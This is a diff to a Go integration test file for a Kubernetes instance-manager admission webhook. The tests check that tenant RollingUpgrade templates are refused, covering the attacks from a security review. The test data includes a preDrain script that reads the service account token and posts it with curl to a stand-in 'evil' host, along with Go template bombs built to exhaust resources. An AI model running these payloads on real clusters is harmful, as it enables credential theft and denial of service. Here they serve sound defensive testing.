@@ -6,6 +6,7 @@ package integration
 import (
 	"context"
 	"fmt"
+	"os"
 	"strings"
 	"testing"
 	"time"
@@ -67,13 +68,73 @@ func crdIG(namespace, name, template string) *v1alpha1.InstanceGroup {
 	return ig
 }
 
+// withCRDStrategy returns the example ConfigMap with the crd strategy
+// opted in to RollingUpgrade as examples/eks-crd-strategy.yaml's comment
+// shows (its "#   crdStrategy: |" block).
+func withCRDStrategy(t *testing.T) map[string]string {
+	t.Helper()
+	raw, err := os.ReadFile(examplePath("eks-crd-strategy.yaml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	block := ""
+	in := false
+	for _, line := range strings.Split(string(raw), "\n") {
+		switch {
+		case line == "#   crdStrategy: |":
+			in = true
+		case in && strings.HasPrefix(line, "#     "):
+			block += strings.TrimPrefix(line, "#     ") + "\n"
+		case in:
+			in = false
+		}
+	}
+	if !strings.Contains(block, "kind: RollingUpgrade") {
+		t.Fatalf("examples/eks-crd-strategy.yaml shows no crdStrategy opt-in:\n%s", raw)
+	}
+	data := exampleConfigMapData(t)
+	data["crdStrategy"] = block
+	return data
+}
+
+// ruTemplate is a RollingUpgrade in namespace ns with extra spec lines.
+func ruTemplate(ns, spec string) string {
+	return "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: RollingUpgrade\nmetadata:\n  name: rollup-nodes\n  namespace: " + ns +
+		"\nspec:\n  asgName: ${.status.activeScalingGroupName}\n  nodeIntervalSeconds: 30\n" + spec
+}
+
+// Security review 2026-11-26 N1: under the example ConfigMap (no
+// crdStrategy) the crd strategy creates nothing, not even upgrade-manager's
+// RollingUpgrade, whose controller runs scripts.
+func TestTenantCRDStrategyIsAdminOnlyByDefault(t *testing.T) {
+	requireEnv(t)
+	ns := uniqueNamespace("team-crd-default")
+	g, ctx, tn := underBoundaries(t, nil, "crd-default-tenant", ns)
+	err := tn.client.Create(ctx, crdIG(ns, "rollup", ruTemplate(ns, "")))
+	g.Expect(err).To(MatchError(And(
+		ContainSubstring("spec.strategy.crd.spec"),
+		ContainSubstring("kind RollingUpgrade.upgrademgr.keikoproj.io is not allowed by the boundary ConfigMap's crdStrategy.allowedKinds (allowed: none)"))))
+}
+
+// The admin cannot share a field upgrade-manager executes.
+func TestAdminCannotShareRollingUpgradeScripts(t *testing.T) {
+	requireEnv(t)
+	g := NewWithT(t)
+	data := exampleConfigMapData(t)
+	data["crdStrategy"] = "allowedKinds: [{group: upgrademgr.keikoproj.io, kind: RollingUpgrade, tenantFields: [spec]}]"
+	err := setConfigMap(context.Background(), data)
+	g.Expect(err).To(MatchError(ContainSubstring(`data.crdStrategy.allowedKinds[0].tenantFields[0]: "spec" covers spec.preDrain.script, which the RollingUpgrade.upgrademgr.keikoproj.io controller runs as a command`)))
+}
+
+// With RollingUpgrade allowed: the review's attacks 01 to 04 are refused at
+// admission, naming spec.strategy.crd.spec, and the webhooks keep serving.
 func TestTenantCRDTemplateIsConfined(t *testing.T) {
 	requireEnv(t)
 	ns := uniqueNamespace("team-crd")
-	g, ctx, tn := underBoundaries(t, nil, "crd-tenant", ns)
-	const ru = "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: RollingUpgrade\nmetadata:\n  name: rollup-nodes\n  namespace: %s\nspec:\n  asgName: {{ .InstanceGroup.Status.ActiveScalingGroupName }}\n"
+	g, ctx, tn := underBoundaries(t, withCRDStrategy(t), "crd-tenant", ns)
+	dryRun := client.DryRunAll
 
-	err := tn.client.Create(ctx, crdIG(ns, "other-namespace", strings.Replace(ru, "%s", "kube-system", 1)))
+	err := tn.client.Create(ctx, crdIG(ns, "other-namespace", ruTemplate("kube-system", "")))
 	g.Expect(err).To(MatchError(And(
 		ContainSubstring("spec.strategy.crd.spec"),
 		ContainSubstring(`metadata.namespace "kube-system" is not the group's namespace "`+ns+`"`))))
@@ -82,17 +143,57 @@ func TestTenantCRDTemplateIsConfined(t *testing.T) {
 	err = tn.client.Create(ctx, crdIG(ns, "another-kind", victim))
 	g.Expect(err).To(MatchError(ContainSubstring("kind InstanceGroup.instancemgr.keikoproj.io is not allowed by the boundary ConfigMap's crdStrategy.allowedKinds (allowed: RollingUpgrade.upgrademgr.keikoproj.io)")))
 
-	// A template bomb is refused at admission, in bounded time, and the
-	// webhooks and the manager keep serving.
-	for name, bomb := range map[string]string{
-		"range":  "apiVersion: v1\nkind: ConfigMap\ndata:\n{{range 100000000}}  x: y\n{{end}}",
-		"printf": "apiVersion: v1\nkind: ConfigMap\ndata:\n  x: {{printf \"%999999999d\" 1}}\n",
+	// Attack 01: shell in upgrade-manager's pod, with its credentials.
+	for name, spec := range map[string]string{
+		"preDrain":      "  preDrain:\n    script: cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://evil\n",
+		"postDrain":     "  postDrain:\n    script: id\n    postWaitScript: id\n",
+		"postTerminate": "  postTerminate: {script: id}\n",
 	} {
-		err = tn.client.Create(ctx, crdIG(ns, "bomb-"+name, bomb))
-		g.Expect(err).To(MatchError(ContainSubstring("spec.strategy.crd.spec")), name)
+		err = tn.client.Create(ctx, crdIG(ns, "script-"+strings.ToLower(name), ruTemplate(ns, spec)), dryRun)
+		g.Expect(err).To(MatchError(And(ContainSubstring("spec.strategy.crd.spec"),
+			ContainSubstring("spec."+name+".script may not be set: the RollingUpgrade.upgrademgr.keikoproj.io controller runs"))), name)
 	}
-	g.Expect(tn.client.Create(ctx, crdIG(ns, "own-namespace", strings.Replace(ru, "%s", ns, 1)))).To(Succeed(),
-		"a RollingUpgrade in the group's own namespace is what the crd strategy is for")
+	// Attack 02: rotate another group's (or the system's) Auto Scaling group.
+	foreign := strings.Replace(ruTemplate(ns, ""), "${.status.activeScalingGroupName}", "eks-system-nodes-1a2b3c", 1)
+	err = tn.client.Create(ctx, crdIG(ns, "foreign-asg", foreign), dryRun)
+	g.Expect(err).To(MatchError(ContainSubstring("spec.asgName must be ${.status.activeScalingGroupName} (the group's own resource) or left out for the controller to fill")))
+	// A field the admin did not share (terminate undrained nodes).
+	err = tn.client.Create(ctx, crdIG(ns, "undrained", ruTemplate(ns, "  ignoreDrainFailures: true\n")), dryRun)
+	g.Expect(err).To(MatchError(ContainSubstring("spec.ignoreDrainFailures is not a field the boundary ConfigMap lets tenants set")))
+
+	// Attack 03: template bombs at admission (a server dry run is enough)
+	// are refused at once: Go templates are not evaluated any more.
+	doubling := "{{$a := \"0123456789abcdef\"}}" + strings.Repeat(`{{$a = printf "%s%s" $a $a}}`, 30) + "{{$a}}"
+	bombs := map[string]string{
+		"doubling": ruTemplate(ns, "  strategy:\n    mode: "+doubling+"\n"),
+		"js":       ruTemplate(ns, "  strategy:\n    mode: {{"+strings.Repeat("js (", 30)+`"\\"`+strings.Repeat(")", 30)+"}}\n"),
+		"range":    "apiVersion: v1\nkind: ConfigMap\ndata:\n{{range 100000000}}  x: y\n{{end}}",
+		"printf":   "apiVersion: v1\nkind: ConfigMap\ndata:\n  x: {{printf \"%999999999d\" 1}}\n",
+	}
+	for name, bomb := range bombs {
+		start := time.Now()
+		err = tn.client.Create(ctx, crdIG(ns, "bomb-"+name, bomb), dryRun)
+		g.Expect(err).To(MatchError(And(ContainSubstring("spec.strategy.crd.spec"), ContainSubstring("Go templates are no longer accepted"))), name)
+		g.Expect(time.Since(start)).To(BeNumerically("<", 5*time.Second), name)
+	}
+
+	// Attack 04: the bomb behind a status branch, which admission used to
+	// render with an empty status. Refused on create and on update of an
+	// admitted group; the admitted group renders the same either way.
+	guarded := ruTemplate(ns, "  strategy:\n    mode: {{if .InstanceGroup.Status.ActiveScalingGroupName}}"+doubling+"{{end}}\n")
+	err = tn.client.Create(ctx, crdIG(ns, "guarded", guarded))
+	g.Expect(err).To(MatchError(ContainSubstring("Go templates are no longer accepted")))
+	g.Expect(tn.client.Create(ctx, crdIG(ns, "own-namespace", ruTemplate(ns, "  strategy: {mode: eager}\n")))).To(Succeed(),
+		"a RollingUpgrade of the group's own Auto Scaling group, with the fields the admin shares, is what the crd strategy is for")
+	err = retry.RetryOnConflict(retry.DefaultRetry, func() error {
+		cur := &v1alpha1.InstanceGroup{}
+		if err := tn.client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "own-namespace"}, cur); err != nil {
+			return err
+		}
+		cur.Spec.Strategy.CRD.Spec = guarded
+		return tn.client.Update(ctx, cur)
+	})
+	g.Expect(err).To(MatchError(ContainSubstring("Go templates are no longer accepted")))
 	g.Expect(tn.client.Create(ctx, shortIG(ns, "after-the-bombs"))).To(Succeed(), "the manager still admits groups")
 }
 
@@ -306,4 +407,35 @@ func TestSizeBeyondInt32IsRefused(t *testing.T) {
 	err := tn.client.Create(ctx, huge)
 	g.Expect(err).To(MatchError(And(ContainSubstring("spec.eks.maxSize"), ContainSubstring("2147483647"))))
 	g.Expect(tn.client.Create(ctx, shortIG(ns, "fits"))).To(Succeed(), "the namespace's vCPU sum was not poisoned")
+}
+
+// Security review N13 (the strategy part): the admin can always tighten the
+// crd strategy; existing groups do not veto it and are not frozen by it:
+// their other edits go through, a new template is judged by the new rules,
+// and the reconciler refuses the old one before its next submission
+// (reconciler/upgrade's TestCRDStrategyIsConfined).
+func TestAdminCanTightenTheCRDStrategy(t *testing.T) {
+	requireEnv(t)
+	ns := uniqueNamespace("team-crd-tighten")
+	g, ctx, tn := underBoundaries(t, withCRDStrategy(t), "crd-tighten-tenant", ns)
+	g.Expect(tn.client.Create(ctx, crdIG(ns, "rollup", ruTemplate(ns, "  strategy: {mode: eager}\n")))).To(Succeed())
+
+	g.Expect(setConfigMap(ctx, exampleConfigMapData(t))).To(Succeed(), "a group using the crd strategy does not veto withdrawing it")
+	mustSetConfigMap(t, exampleConfigMapData(t))
+	edit := func(change func(*v1alpha1.InstanceGroup)) error {
+		return retry.RetryOnConflict(retry.DefaultRetry, func() error {
+			cur := &v1alpha1.InstanceGroup{}
+			if err := tn.client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "rollup"}, cur); err != nil {
+				return err
+			}
+			change(cur)
+			return tn.client.Update(ctx, cur)
+		})
+	}
+	g.Expect(edit(func(ig *v1alpha1.InstanceGroup) { ig.Spec.EKS.MaxSize = 4 })).To(Succeed(), "an edit that keeps the template")
+	err := edit(func(ig *v1alpha1.InstanceGroup) {
+		ig.Spec.Strategy.CRD.Spec = ruTemplate(ns, "  strategy: {mode: lazy}\n")
+	})
+	g.Expect(err).To(MatchError(And(ContainSubstring("spec.strategy.crd.spec"),
+		ContainSubstring("kind RollingUpgrade.upgrademgr.keikoproj.io is not allowed by the boundary ConfigMap's crdStrategy.allowedKinds (allowed: none)"))))
 }
